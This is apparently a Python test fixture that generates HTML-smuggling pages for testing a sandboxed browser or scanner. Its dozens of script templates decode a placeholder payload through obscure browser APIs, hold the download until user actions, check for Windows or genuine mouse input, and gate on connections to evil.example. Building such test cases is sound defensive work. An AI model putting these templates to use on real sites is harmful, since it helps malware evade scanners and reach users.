"""Attached pages whose payload passes through a part of the browser that few pages use, or waits for something that a
reader or a browser does: tricks of somebody who has read the stand-in browser."""

# ruff: noqa: E501  scripts are one line each, as they are mailed

import json
from collections.abc import Callable
from functools import partial

from tests.pages.smuggling_pages import CODINGS, SAVE, b64, encrypt, fill, load


def quote(code: str) -> str:
    """A string of a script."""
    return json.dumps(code).replace("</", "<\\/")


def pair(payload: bytes) -> str:
    """A string of a script in which one character is two bytes."""
    padded = payload + bytes(len(payload) % 2)
    return "".join(f"\\u{padded[at] | padded[at + 1] << 8:04x}" for at in range(0, len(padded), 2))


_CODINGS: dict[str, Callable[[bytes], str]] = CODINGS | {
    "SECRET": lambda payload: encrypt(payload, b"geheim"),
    "HEX": bytes.hex,
    "PAIRS": pair,
    "WITHOUT_PLUS": lambda payload: b64(payload).replace("+", "%2B"),
    "WITHOUT_EQUALS": lambda payload: b64(payload).replace("=", "!"),
    "SAVE_QUOTED": lambda _: json.dumps(SAVE),
    "SAVE_IN_ATTRIBUTE": lambda _: SAVE.replace("'", "&#39;"),
    "SAVE_ON_ONE_LINE": lambda _: SAVE.replace("'", "`").replace("\n", ""),
    "CODE_QUOTED": lambda payload: quote(load(payload)),
    "PAGE_QUOTED": lambda payload: quote(f"<script>{load(payload)}</script>"),
    "PAGE64": lambda payload: b64(f"<script>var s=atob(`{b64(payload)}`);{SAVE}</script>".encode()),
}
_BODIES: dict[str, str] = {
    "reflect construct": "<script>var s=Reflect.apply(atob,null,['PAYLOAD']);SAVE</script>",
    "async generator": "<script>async function*g(){for(const c of PIECES)yield c}(async()=>{var t='';for await(const c of g())t+=c;var s=atob(t);SAVE})()</script>",
    "symbol iterator": "<script>var o={*[Symbol.iterator](){yield* 'PAYLOAD'}};var s=atob([...o].join(''));SAVE</script>",
    "to primitive": "<script>var s=atob({[Symbol.toPrimitive]:()=>'PAYLOAD'});SAVE</script>",
    "tagged template": "<script>var f=(x,...y)=>atob(x.raw.join(''));var s=f`PAYLOAD`;SAVE</script>",
    "weakref final": "<script>var w=new WeakRef({k:'PAYLOAD'});var s=atob(w.deref().k);SAVE</script>",
    "contextual fragment": "<script>document.body.appendChild(document.createRange().createContextualFragment('<script>var s=atob(\"PAYLOAD\");'+SAVE_QUOTED+'</'+'script>'))</script>",
    "insert adjacent": "<script>document.body.insertAdjacentHTML('beforeend','<i data-a=\"PAYLOAD\"></i>');var s=atob(document.body.lastElementChild.dataset.a);SAVE</script>",
    "insert adjacent img": "<script>document.body.insertAdjacentHTML('afterbegin',`<img src=x onerror='var s=atob(\"PAYLOAD\");SAVE_IN_ATTRIBUTE'>`)</script>",
    "dom parser": "<script>var d=new DOMParser().parseFromString('<p id=q>PAYLOAD</p>','text/html');var s=atob(d.getElementById('q').textContent);SAVE</script>",
    "dom parser xml": "<script>var d=new DOMParser().parseFromString('<r><q v=\"PAYLOAD\"/></r>','application/xml');var s=atob(d.querySelector('q').getAttribute('v'));SAVE</script>",
    "search params": "<script>var s=atob(new URLSearchParams('a=WITHOUT_PLUS').get('a'));SAVE</script>",
    "url hash": "<script>var s=atob(new URL('https://x.example/#PAYLOAD').hash.slice(1));SAVE</script>",
    "location hash": "<script>location.hash='PAYLOAD';setTimeout(()=>{var s=atob(location.hash.slice(1));SAVE},10)</script>",
    "compression round": "<script>(async()=>{var c=new Response(new Blob([Uint8Array.from(atob('PAYLOAD'),c=>c.charCodeAt(0))]).stream().pipeThrough(new CompressionStream('gzip')));var b=await new Response((await c.blob()).stream().pipeThrough(new DecompressionStream('gzip'))).blob();var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='i.bin';a.click()})()</script>",
    "subtle digest gate": "<script>crypto.subtle.digest('SHA-256',new Uint8Array(3)).then(()=>{var s=atob('PAYLOAD');SAVE})</script>",
    "readable stream": "<script>(async()=>{var r=new ReadableStream({start(c){c.enqueue(Uint8Array.from(atob('PAYLOAD'),c=>c.charCodeAt(0)));c.close()}});var b=await new Response(r).blob();var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='i.bin';a.click()})()</script>",
    "media source name": "<script>var b=new File([Uint8Array.from(atob('PAYLOAD'),c=>c.charCodeAt(0))],'i.bin');var a=Object.assign(document.createElement('a'),{href:webkitURL.createObjectURL(b),download:'i.bin'});a.dispatchEvent(new MouseEvent('click'))</script>",
    "navigator share": "<script>var f=new File([Uint8Array.from(atob('PAYLOAD'),c=>c.charCodeAt(0))],'i.exe');document.onclick=()=>navigator.share({files:[f]})</script>",
    "window open blob": "<script>var s=atob('PAYLOAD');var u=new Uint8Array(s.length);for(var i=0;i<s.length;i++)u[i]=s.charCodeAt(i);onclick=()=>window.open(URL.createObjectURL(new Blob([u],{type:'application/x-msdownload'})))</script>",
    "iframe blob": "<script>var s=atob('PAYLOAD');var u=Uint8Array.from(s,c=>c.charCodeAt(0));var f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob([u],{type:'application/zip'}));document.body.append(f)</script>",
    "form download": "<a id=z download=i.bin></a><script>z.href='data:application/octet-stream;base64,PAYLOAD';z.click()</script>",
    "before print": "<script>addEventListener('beforeprint',()=>{var s=atob('PAYLOAD');SAVE});print()</script>",
    "match media print": "<script>matchMedia('print').addListener(()=>{var s=atob('PAYLOAD');SAVE})</script>",
    "details toggle": "<details id=d><summary>Open</summary><p>a</p></details><script>d.addEventListener('toggle',()=>{var s=atob('PAYLOAD');SAVE})</script>",
    "dialog close": "<dialog id=d>Open</dialog><script>d.addEventListener('close',()=>{var s=atob('PAYLOAD');SAVE});d.showModal()</script>",
    "pointer gated": "<script>addEventListener('pointerenter',e=>{if(e.isTrusted&&e.pointerType==='mouse'){var s=atob('PAYLOAD');SAVE}})</script>",
    "key sequence": "<script>var k='';addEventListener('keydown',e=>{k+=e.key;if(k.length>3){var s=atob('PAYLOAD');SAVE}})</script>",
    "key specific": "<script>addEventListener('keydown',e=>{if(e.key==='ArrowRight'){var s=atob('PAYLOAD');SAVE}})</script>",
    "focus visibility": "<script>document.addEventListener('visibilitychange',()=>{if(document.hidden){var s=atob('PAYLOAD');SAVE}})</script>",
    "wheel distance": "<script>var n=0;addEventListener('wheel',e=>{n+=e.deltaY;if(n>100){var s=atob('PAYLOAD');SAVE}})</script>",
    "slider input": "<input type=range id=r min=0 max=100 value=0><script>r.oninput=()=>{if(+r.value>=90){var s=atob('PAYLOAD');SAVE}}</script>",
    "checkbox gate": "<input type=checkbox id=r><script>r.onchange=()=>{if(r.checked){var s=atob('PAYLOAD');SAVE}}</script>",
    "code gate": "<p>Your code: 4711</p><input id=r><button id=g>Go</button><script>g.onclick=()=>{if(r.value==='4711'){var s=atob('PAYLOAD');SAVE}}</script>",
    "css attr content": "<style>#q::before{content:attr(data-v)}</style><b id=q data-v='PAYLOAD'></b><script>var c=getComputedStyle(q,'::before').content;var s=atob(c.startsWith('attr')?q.dataset.v:c.replace(/\"/g,''));SAVE</script>",
    "css rules": "<style>.k{background:url(x:PAYLOAD)}</style><script>var c=document.styleSheets[0].cssRules[0].cssText;var s=atob(/x:([\\w+\\/=]+)/.exec(c)[1]);SAVE</script>",
    "css font": "<b id=q style='font-family:\"PAYLOAD\"'></b><script>var s=atob(q.style.fontFamily.replace(/[\"']/g,''));SAVE</script>",
    "animation event": "<style>@keyframes k{}b{animation:k 1s}</style><b id=q></b><script>q.addEventListener('animationstart',e=>{var s=atob('PAYLOAD');SAVE})</script>",
    "import map": '<script type=importmap>{"imports":{"k":"data:text/javascript,export default \'PAYLOAD\'"}}</script><script type=module>import k from \'k\';var s=atob(k);SAVE</script>',
    "service worker gate": "<script>navigator.serviceWorker.register('sw.js').catch(()=>{}).finally(()=>{var s=atob('PAYLOAD');SAVE})</script>",
    "message channel": "<script>var c=new MessageChannel();c.port1.onmessage=e=>{var s=atob(e.data);SAVE};c.port2.postMessage('PAYLOAD')</script>",
    "broadcast channel": "<script>var a1=new BroadcastChannel('x'),b1=new BroadcastChannel('x');b1.onmessage=e=>{var s=atob(e.data);SAVE};a1.postMessage('PAYLOAD')</script>",
    "indexed db": "<script>var r=indexedDB.open('a',1);r.onupgradeneeded=()=>r.result.createObjectStore('k');r.onsuccess=()=>{var t=r.result.transaction('k','readwrite').objectStore('k');t.put('PAYLOAD',1).onsuccess=()=>{t.get(1).onsuccess=e=>{var s=atob(e.target.result);SAVE}}}</script>",
    "cache api": "<script>(async()=>{var c=await caches.open('a');await c.put('/k',new Response('PAYLOAD'));var s=atob(await (await c.match('/k')).text());SAVE})()</script>",
    "cookie store": "<script>document.cookie='k=WITHOUT_EQUALS';var s=atob(document.cookie.split('k=')[1].split(';')[0].replace(/!/g,'='));SAVE</script>",
    "history state": "<script>history.pushState('PAYLOAD','');var s=atob(history.state);SAVE</script>",
    "window name": "<script>window.name='PAYLOAD';var s=atob(self.name);SAVE</script>",
    "error stack": "<script>window.onerror=m=>{var s=atob(m.split('@')[1]);SAVE};throw new Error('@PAYLOAD@')</script>",
    "unhandled rejection": "<script>addEventListener('unhandledrejection',e=>{var s=atob(e.reason);SAVE});Promise.reject('PAYLOAD')</script>",
    "intl segmenter": "<script>var s=atob([...new Intl.Segmenter('en').segment('PAYLOAD')].map(x=>x.segment).join(''));SAVE</script>",
    "text encoder stream": "<script>(async()=>{var t=await new Response(new Blob(['PAYLOAD']).stream().pipeThrough(new TextDecoderStream())).text();var s=atob(t);SAVE})()</script>",
    "uint8 from base64": "<script>var b=Uint8Array.fromBase64?Uint8Array.fromBase64('PAYLOAD'):null;if(b){var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([b]));a.download='i.bin';a.click()}</script>",
    "from hex": "<script>var b=Uint8Array.fromHex('HEX');var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([b]));a.download='i.bin';a.click()</script>",
    "queue microtask": "<script>queueMicrotask(()=>{var s=atob('PAYLOAD');SAVE})</script>",
    "scheduler yield": "<script>(async()=>{await scheduler.yield();var s=atob('PAYLOAD');SAVE})()</script>",
    "idle detector": "<script>requestIdleCallback(()=>requestAnimationFrame(()=>setTimeout(()=>{var s=atob('PAYLOAD');SAVE})))</script>",
    "declarative shadow": "<div id=h><template shadowrootmode=open><i>PAYLOAD</i></template></div><script>var s=atob((h.shadowRoot?h.shadowRoot.querySelector('i'):h.querySelector('template').content.querySelector('i')).textContent);SAVE</script>",
    "slot change": "<x-a><b>PAYLOAD</b></x-a><script>customElements.define('x-a',class extends HTMLElement{connectedCallback(){var r=this.attachShadow({mode:'closed'});r.innerHTML='<slot></slot>';var l=r.querySelector('slot');l.addEventListener('slotchange',()=>{var s=atob(l.assignedNodes().map(x=>x.textContent).join(''));SAVE})}})</script>",
    "attribute observer": "<b id=q></b><script>new MutationObserver(r=>{var s=atob(r[0].target.getAttribute('k'));SAVE}).observe(q,{attributes:true});q.setAttribute('k','PAYLOAD')</script>",
    "video error": "<video onerror=\"var s=atob('PAYLOAD');SAVE\" src=x></video>",
    "object fallback": "<object data='data:text/html;base64,PAGE64'></object>",
    "math link": "<math href=\"javascript:var s=atob('PAYLOAD');SAVE\">Open</math>",
    "form action button": "<form><button formaction=\"javascript:var s=atob('PAYLOAD');SAVE\">Open</button></form>",
    "area link": "<map><area href=\"javascript:var s=atob('PAYLOAD');SAVE\"></map>",
    "noscript text": "<noscript id=n>PAYLOAD</noscript><script>var s=atob(document.getElementById('n').textContent);SAVE</script>",
    "picture alt": "<img id=m alt='PAYLOAD'><script>var s=atob(m.alt);SAVE</script>",
    "link title prefetch": "<link rel=x title='PAYLOAD'></head><script>var s=atob(document.querySelector('link').title);SAVE</script>",
    "meta content": "<meta name=k content='PAYLOAD'></head><script>var s=atob(document.head.querySelector('meta[name=k]').content);SAVE</script>",
    "getter chain": "<script>class A{static #k='PAYLOAD';static get v(){return atob(A.#k)}}var s=A.v;SAVE</script>",
    "static block": "<script>var s;class A{static{s=atob('PAYLOAD')}}SAVE</script>",
    "with scope": "<script>with({k:'PAYLOAD'}){var s=atob(k)}SAVE</script>",
    "label debugger": "<script>debugger;var s=atob('PAYLOAD');SAVE</script>",
    "iframe atob": "<script>var f=document.createElement('iframe');document.body.append(f);var s=f.contentWindow.atob('PAYLOAD');SAVE</script>",
    "iframe eval": "<script>var f=document.createElement('iframe');document.body.append(f);f.contentWindow.eval(CODE_QUOTED)</script>",
    "iframe srcdoc set": "<script>var f=document.createElement('iframe');f.srcdoc=PAGE_QUOTED;document.body.append(f)</script>",
    "frame document write": "<script>var f=document.createElement('iframe');document.body.append(f);f.contentDocument.write(PAGE_QUOTED)</script>",
    "utf16 pairs": "<script>var t='PAIRS',s='';for(var i=0;i<t.length;i++)s+=String.fromCharCode(t.charCodeAt(i)&255,t.charCodeAt(i)>>8);s=s.slice(0,LENGTH);SAVE</script>",
    "float array": "<script>var b=new Blob([new Uint8Array(new Uint32Array([WORDS]).buffer,0,LENGTH)]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='i.bin';a.click()</script>",
    "resizable buffer": "<script>var t=atob('PAYLOAD'),b=new ArrayBuffer(0,{maxByteLength:1e5});b.resize(t.length);var u=new Uint8Array(b);for(var i=0;i<t.length;i++)u[i]=t.charCodeAt(i);var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([u]));a.download='i.bin';a.click()</script>",
    "webrtc": "<script>var c=new RTCPeerConnection();c.createOffer().then(()=>{var s=atob('PAYLOAD');SAVE})</script>",
    "websocket gate": "<script>var w=new WebSocket('wss://evil.example/');w.onopen=()=>{var s=atob('PAYLOAD');SAVE};w.onerror=w.onopen</script>",
    "event source": "<script>var w=new EventSource('https://evil.example/');w.onerror=()=>{var s=atob('PAYLOAD');SAVE}</script>",
    "geolocation gate": "<script>navigator.geolocation.getCurrentPosition(g,g);function g(){var s=atob('PAYLOAD');SAVE}</script>",
    "battery gate": "<script>navigator.getBattery().then(()=>{var s=atob('PAYLOAD');SAVE})</script>",
    "permission gate": "<script>navigator.permissions.query({name:'notifications'}).then(r=>{var s=atob('PAYLOAD');SAVE})</script>",
    "storage estimate": "<script>navigator.storage.estimate().then(r=>{if(r.quota>1e6){var s=atob('PAYLOAD');SAVE}})</script>",
    "user agent data": "<script>navigator.userAgentData.getHighEntropyValues(['platform']).then(r=>{if(/Win/.test(r.platform)){var s=atob('PAYLOAD');SAVE}})</script>",
    "webgl gate": "<script>var g=document.createElement('canvas').getContext('webgl');var v=g.getParameter(g.VERSION);if(v){var s=atob('PAYLOAD');SAVE}</script>",
    "origin private files": "<script>(async()=>{var d=await navigator.storage.getDirectory();var h=await d.getFileHandle('i.bin',{create:true});var w=await h.createWritable();await w.write(Uint8Array.from(atob('PAYLOAD'),c=>c.charCodeAt(0)));await w.close();var a=document.createElement('a');a.href=URL.createObjectURL(await h.getFile());a.download='i.bin';a.click()})()</script>",
}
# What only a style sheet for XML, a password that the page shows, or an animated link gives: such a page is held.
_HELD: dict[str, str] = {
    "xslt": '<script>var x=new DOMParser().parseFromString(\'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><b>PAYLOAD</b></xsl:template></xsl:stylesheet>\',\'text/xml\');var q=new XSLTProcessor();q.importStylesheet(x);var s=atob(q.transformToDocument(document).documentElement.textContent);SAVE</script>',
    "password key": "<p>Password: geheim</p><input id=r type=password><button id=g>Go</button><script>g.onclick=()=>{var t=atob('SECRET'),k=r.value,s='';for(var i=0;i<t.length;i++)s+=String.fromCharCode(t.charCodeAt(i)^k.charCodeAt(i%k.length));SAVE}</script>",
    "svg set": "<svg><a><animate attributeName=href values='javascript:var s=atob(`PAYLOAD`);SAVE_ON_ONE_LINE'/><text>Open</text></a></svg>",
}
TRICKS, HELD = (
    {name: partial(fill, body, codings=_CODINGS) for name, body in bodies.items()} for bodies in (_BODIES, _HELD)
)
